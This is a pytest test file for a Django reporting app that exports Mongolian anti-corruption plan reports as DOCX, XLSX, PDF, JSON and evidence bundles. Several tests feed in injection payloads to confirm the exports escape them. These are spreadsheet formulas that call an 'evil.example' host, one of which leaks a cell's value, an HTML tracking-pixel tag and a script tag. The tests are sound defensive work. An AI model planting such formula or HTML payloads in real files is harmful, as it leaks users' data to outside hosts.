"""The report's documents: the official layout in DOCX, formulas in XLSX, embedded Cyrillic
fonts in the PDF, the JSON, and the evidence bundle with its manifest."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import re
import zipfile
import zlib

import docx
import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from shudarga.core import charts
from shudarga.evidence.services import evidence_add_file, evidence_add_link
from shudarga.reports import services
from shudarga.reports.documents import bundle, json_format, pdf
from shudarga.reports.documents import docx as docx_format
from shudarga.reports.documents import xlsx as xlsx_format
from shudarga.reports.documents.model import chart_png, chart_svg
from shudarga.reports.models import ReportBundle
from shudarga.reports.selectors import report_to_document
from tests.evidence.files import PDF, png
from tests.reports.conftest import plan_with_measures, score_all

pytestmark = pytest.mark.django_db

TITLE = "2023 ОНЫ АВЛИГЫН ЭСРЭГ ҮЙЛ АЖИЛЛАГААНЫ ТӨЛӨВЛӨГӨӨНИЙ ХЭРЭГЖИЛТИЙН ТАЙЛАН"
COLUMNS = ["Д/д", "Зорилго", "Арга хэмжээ", "Шалгуур үзүүлэлт", "Хэрэгжилт", "Нотломж", "Үнэлгээ"]


@pytest.fixture
def scored_h1(h1_report, reviewer):
    """The seed plan's half-year: 1.1 and 1.3 due (70 and 100), the rest ХБ."""
    h1_report.plan.measures.filter(code__in=["1.1", "1.3"]).update(recurrence="quarterly")
    return score_all(h1_report, reviewer, {"1.1": 70})


def test_the_document_holds_title_period_scores_and_percents(scored_h1):
    document = report_to_document(report=scored_h1)
    assert document.title == TITLE
    assert document.period_label == "хагас жилийн байдлаар"
    assert (document.period_start, document.period_end) == (
        dt.date(2023, 1, 1),
        dt.date(2023, 6, 30),
    )
    marks = {item.code: item.score_mark for item in document.items}
    assert (marks["1.1"], marks["1.3"], marks["2.1"]) == ("70", "100", "ХБ")
    assert document.goals[0].percent_text == "85.0"
    assert document.goals[1].percent_text == "—"  # nothing due in goal 2
    assert document.percent_text == "85.0"
    assert "хугацаа болсон 2 арга хэмжээний хэрэгжилт 85.0%" in document.summary()
    assert [s.label for s in document.signers] == ["ХЯНАСАН", "БОЛОВСРУУЛСАН"]


def test_the_docx_has_the_official_table(scored_h1):
    document = docx.Document(io.BytesIO(docx_format.write(report_to_document(report=scored_h1))))
    text = "\n".join(p.text for p in document.paragraphs)
    assert TITLE in text and "(хагас жилийн байдлаар)" in text
    assert "2023 оны 1 дүгээр сарын 1 – 2023 оны 6 дугаар сарын 30" in text
    table = next(t for t in document.tables if t.rows[0].cells[0].text == "Д/д")
    assert [c.text for c in table.rows[0].cells] == COLUMNS
    assert [c.text for c in table.rows[1].cells] == [str(n) for n in range(1, 8)]
    body = [[c.text for c in row.cells] for row in table.rows[2:]]
    # Goal 1: four measures and its total row share the merged goal cells.
    assert [row[0] for row in body[:5]] == ["1"] * 5
    assert body[0][2].startswith("1.1. ")
    assert body[0][6].startswith("70") and "хэрэгжих шатандаа" in body[0][6]
    assert body[1][6].startswith("ХБ")
    assert body[4][2] == "Зорилгын хэрэгжилт, дундаж хувь" and body[4][6] == "85.0%"
    assert body[-1][0] == "Төлөвлөгөөний хэрэгжилт, дундаж хувь" and body[-1][6] == "85.0%"
    # Header rows repeat on every page; the chart is a picture.
    assert table.rows[0]._tr.trPr.xml.count("tblHeader") == 1
    assert (
        document.inline_shapes
        and document.sections[0].page_width > document.sections[0].page_height
    )


def test_the_docx_adds_levels_and_the_reason_for_a_missed_target(org, officer, reviewer):
    plan = plan_with_measures(org, 2, goals=1, criteria=1, baseline="0", target="4 удаа")
    report = services.report_create(plan=plan, period="year", actor=None)
    measure = plan.measures.order_by("position").first()
    services.report_item_save(
        report=report, measure=measure, actor=officer, text="Хоёр удаа.",
        achieved="2 удаа", target_reached=False, shortfall_reason="Төсөв хүрэлцээгүй.",
    )  # fmt: skip
    document = report_to_document(report=score_all(report, reviewer))
    assert document.has_levels
    table = docx.Document(io.BytesIO(docx_format.write(document))).tables[1]
    assert [c.text for c in table.rows[0].cells] == [
        *COLUMNS[:4], "Суурь түвшин", "Зорилтот түвшин", "Хүрсэн түвшин", *COLUMNS[4:]
    ]  # fmt: skip
    first = [c.text for c in table.rows[2].cells]
    assert first[4:7] == ["0", "4 удаа", "2 удаа"]
    assert "Зорилтот түвшинд хүрээгүй шалтгаан: Төсөв хүрэлцээгүй." in first[7]


def test_the_xlsx_totals_are_formulas_and_text_stays_text(year_report, officer, reviewer):
    services.report_item_save(
        report=year_report,
        measure=year_report.plan.measures.get(code="1.1"),
        actor=officer,
        text='=HYPERLINK("http://evil.example","x")',
    )
    document = report_to_document(report=score_all(year_report, reviewer, {"2.2": 0}))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_format.write(document))).active
    cells = {(c.row, c.column): c for row in sheet.iter_rows() for c in row}
    header = next(r for (r, col), c in cells.items() if col == 1 and c.value == "Д/д")
    assert [sheet.cell(header, col).value for col in range(1, 8)] == COLUMNS
    formulas = [c.value for c in cells.values() if c.data_type == "f"]
    assert len(formulas) == 6  # five goals and the plan
    first, last = header + 2, header + 5  # goal 1: measures 1.1-1.4
    assert formulas[0] == f'=IFERROR(TRUNC(ROUND(AVERAGE(G{first}:G{last}),6),1),"—")'
    assert formulas[-1].startswith(f"=IFERROR(TRUNC(ROUND(AVERAGE(G{first}:G{last},G{last + 2}:")
    implementation = next(
        c for c in cells.values() if isinstance(c.value, str) and "HYPERLINK" in c.value
    )
    assert implementation.data_type == "s" and implementation.quotePrefix
    scores = [sheet.cell(r, 7).value for r in range(header + 2, header + 6)]
    assert scores == [100, 100, 100, 100]


def test_the_pdf_embeds_a_font_with_mongolian_letters(scored_h1):
    document = report_to_document(report=scored_h1)
    html = pdf.html(document)
    assert "DejaVu Sans" in html and TITLE in html and "<svg" in html
    data = pdf.write(document)
    assert data.startswith(b"%PDF")
    streams = b"\n".join(_pdf_streams(data))
    assert b"/FontFile2" in streams and b"DejaVu" in streams  # embedded TrueType
    # The fonts' ToUnicode maps carry Ө (U+04E8) and Ү (U+04AE): text is Cyrillic, not boxes.
    assert b"<04E8>" in streams.upper() and b"<04AE>" in streams.upper()


def _pdf_streams(data: bytes):
    """Every stream of a PDF, inflated when compressed (object streams hold the font
    dictionaries)."""
    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", data, re.DOTALL):
        try:
            yield zlib.decompress(match[1])
        except zlib.error:
            yield match[1]


def test_the_pdf_html_escapes_what_people_typed(year_report, officer):
    services.report_item_save(
        report=year_report,
        measure=year_report.plan.measures.get(code="1.1"),
        actor=officer,
        text='<img src="http://tracker.example/x.png">',
    )
    html = pdf.html(report_to_document(report=year_report))
    assert "<img" not in html and "&lt;img" in html


def test_the_json_carries_every_measure(scored_h1):
    data = json.loads(json_format.write(report_to_document(report=scored_h1)))
    assert data["title"] == TITLE and data["percent_text"] == "85.0"
    items = [item for goal in data["goals"] for item in goal["items"]]
    assert len(items) == 19
    assert {i["code"]: i["score_mark"] for i in items}["1.1"] == "70"


def test_the_chart_draws_one_bar_per_goal():
    bars = [("1", None), ("2", __import__("decimal").Decimal("89.2"))]
    svg = chart_svg(bars)
    assert svg.count("<rect") == 1 and "89.2%" in svg and "—" in svg
    assert "Зорилго 1" in svg
    assert "<script>" not in charts.bars_svg([charts.Bar("<script>", None)], title="<script>")
    image = chart_png(bars)
    assert image.startswith(b"\x89PNG")


def _evidence(report, officer):
    measure = report.plan.measures.get(code="1.2")
    organization = report.plan.organization
    pdf_file = evidence_add_file(
        organization=organization,
        measure=measure,
        upload=SimpleUploadedFile("тайлан.pdf", PDF, content_type="application/pdf"),
        actor=officer,
        title="Өдөрлөгийн тайлан",
        relates_to=dt.date(2023, 4, 12),
    )
    image = evidence_add_file(
        organization=organization,
        measure=report.plan.measures.get(code="1.3"),
        upload=SimpleUploadedFile("самбар.png", png(4, 4), content_type="image/png"),
        actor=officer,
        relates_to=dt.date(2023, 5, 1),
    )
    evidence_add_link(
        organization=organization,
        measure=measure,
        link="https://www.facebook.com/post/1",
        actor=officer,
        title="Facebook пост",
        relates_to=dt.date(2023, 4, 13),
    )
    evidence_add_link(  # after the year: not in the report
        organization=organization, measure=measure, link="https://example.mn/late",
        actor=officer, relates_to=dt.date(2024, 2, 1),
    )  # fmt: skip
    return pdf_file, image


def test_the_bundle_has_a_folder_per_measure_and_a_manifest(year_report, officer):
    pdf_file, image = _evidence(year_report, officer)
    entry = services.bundle_request(report=year_report, actor=officer)
    assert entry.total == 4  # three evidence items of the year and the report PDF
    steps = []
    built = services.bundle_build(bundle=entry, progress=lambda done, total: steps.append(done))
    assert steps[-1] == 4 and built.status == ReportBundle.Status.DONE
    with built.file.open("rb") as handle:
        data = handle.read()
    assert hashlib.sha256(data).hexdigest() == built.sha256 and len(data) == built.size
    archive = zipfile.ZipFile(io.BytesIO(data))
    names = set(archive.namelist())
    assert {
        "2023-year-тайлан.pdf",
        "1.2/01-тайлан.pdf",
        "1.2/links.txt",
        "1.3/01-самбар.png",
    } <= names
    assert "https://www.facebook.com/post/1" in archive.read("1.2/links.txt").decode()
    assert "late" not in archive.read("1.2/links.txt").decode()
    assert archive.read("1.2/01-тайлан.pdf") == PDF
    manifest = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))
    assert manifest[0][:3] == ["Файл", "SHA-256", "Хэмжээ (байт)"]
    rows = {row[0]: row for row in manifest[1:] if row[0]}
    assert rows["1.2/01-тайлан.pdf"][1] == pdf_file.sha256
    assert rows["1.2/01-тайлан.pdf"][7] == bundle.STATUS_OK
    assert rows["1.3/01-самбар.png"][1] == image.sha256
    for line in archive.read("SHA256SUMS").decode().splitlines():
        digest, name = line.split("  ", 1)
        assert hashlib.sha256(archive.read(name)).hexdigest() == digest


def test_the_bundle_flags_a_file_changed_or_gone_since_upload(year_report, officer):
    pdf_file, image = _evidence(year_report, officer)
    with pdf_file.file.storage.open(pdf_file.file.name, "wb") as handle:
        handle.write(b"%PDF-1.4 tampered")
    image.file.storage.delete(image.file.name)
    built = services.bundle_build(bundle=services.bundle_request(report=year_report, actor=None))
    with built.file.open("rb") as handle:
        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
    manifest = archive.read("manifest.csv").decode("utf-8-sig")
    assert bundle.STATUS_CHANGED in manifest and bundle.STATUS_MISSING in manifest


def test_one_bundle_at_a_time_and_the_previous_file_is_replaced(year_report, officer):
    first = services.bundle_build(bundle=services.bundle_request(report=year_report, actor=None))
    services.bundle_request(report=year_report, actor=None)
    with pytest.raises(Exception, match="already being built"):
        services.bundle_request(report=year_report, actor=None)
    second = services.bundle_build(bundle=ReportBundle.objects.get(status="pending"))
    first.refresh_from_db()
    assert not first.file and second.file
    assert not second.file.storage.exists(first.file.name or "nothing")


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_the_bundle_manifest_keeps_formula_like_titles_as_text(year_report, officer, start):
    """Finding 4: a title starting with `=` went into manifest.csv as it was, and Excel (the
    BOM makes it read the file as UTF-8) evaluated it. Now it starts with an apostrophe,
    which the spreadsheet shows as the text it was — as the XLSX exports do."""
    measure = year_report.plan.measures.get(code="1.2")
    title = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    evidence_add_link(
        organization=year_report.plan.organization, measure=measure, actor=officer,
        link="https://example.mn/x", title=title, relates_to=dt.date(2023, 4, 12),
    )  # fmt: skip
    built = services.bundle_build(bundle=services.bundle_request(report=year_report, actor=None))
    with built.file.open("rb") as handle:
        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
    manifest = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))
    titles = [row[4] for row in manifest[1:]]
    assert "'" + title in titles
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in manifest for cell in row)


def test_csv_text_leaves_numbers_alone():
    from shudarga.core.spreadsheets import csv_text

    assert csv_text(-5) == -5
    assert csv_text("-5") == "'-5"
    assert csv_text(None) is None
    assert csv_text("Өдөрлөг") == "Өдөрлөг"
